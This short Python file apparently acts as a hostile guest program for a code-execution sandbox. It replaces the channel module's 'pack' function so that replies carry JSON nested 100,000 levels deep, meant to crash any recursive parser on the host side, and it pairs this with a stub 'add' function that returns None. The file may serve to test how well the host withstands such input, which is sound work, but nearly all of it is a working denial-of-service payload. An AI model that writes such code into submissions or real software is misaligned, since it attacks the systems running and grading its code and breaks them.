# Attacks whoever reads messages recursively: a hundred thousand lists in one another.
import struct
import sys

channel = sys.modules["executor.guest.channel"]
honest = channel.pack


def pack(message):
    if "id" not in message:
        return honest(message)
    text = b'{"id":%d,"value":' % message["id"] + b"[" * 100000 + b"]" * 100000 + b"}"
    return struct.pack(">I", len(text)) + text


channel.pack = pack


def add(a, b):
    return None
